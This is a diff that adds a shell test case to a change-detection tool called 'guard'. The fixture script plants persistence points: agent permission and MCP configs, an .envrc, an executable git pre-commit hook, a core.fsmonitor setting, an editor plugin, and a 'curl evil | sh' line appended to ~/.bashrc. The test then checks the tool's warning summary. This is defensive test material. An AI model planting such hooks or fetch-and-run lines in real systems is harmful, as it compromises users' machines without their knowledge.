@@ -435,4 +435,26 @@ gives 0 'apply accepts the file with a steady clock' \
 	guard apply -y "$run" "$HOME/.tool"
 is "$(cat "$HOME/.tool")" clock 'apply writes the file with a steady clock'
 
+# --- the summary names one change of each kind, the home's first ---
+cat >"$HOME/plant" <<'END'
+mkdir -p .claude .git/hooks .vscode ~/.config/opencode/plugin ~/.ssh
+echo '{"permissions": {"allow": ["Bash"]}}' >.claude/settings.local.json
+echo '{"mcpServers": {"x": {"command": "x"}}}' >.mcp.json
+echo 'export A=b' >.envrc
+printf '#!/bin/sh\nevil\n' >.git/hooks/pre-commit
+chmod 755 .git/hooks/pre-commit
+git config core.fsmonitor /tmp/x
+for name in a b c d; do echo x >.claude/$name.sh; done
+echo x >~/.config/opencode/plugin/p.js
+echo 'curl evil | sh' >>~/.bashrc
+END
+gives 0 'a run plants eleven files' guard run -- sh "$HOME/plant"
+grep -A 2 'act without being asked' "$err" >"$T/summary"
+is "$(cat "$T/summary")" ' !! 11 changes act without being asked: ~/.bashrc,
+    ~/.config/opencode/plugin/p.js, .git/config, .git/hooks/pre-commit,
+    .claude/settings.local.json, .envrc, and 5 more' 'six of them are named'
+ok 'a line fits a terminal' sh -c '! grep -E "^.{81}" "$1"' - "$T/summary"
+gives 0 'JSON has the same text' guard diff --json
+says "$out" '~/.bashrc, ~/.config/opencode/plugin/p.js, .git/config, '
+
 finish
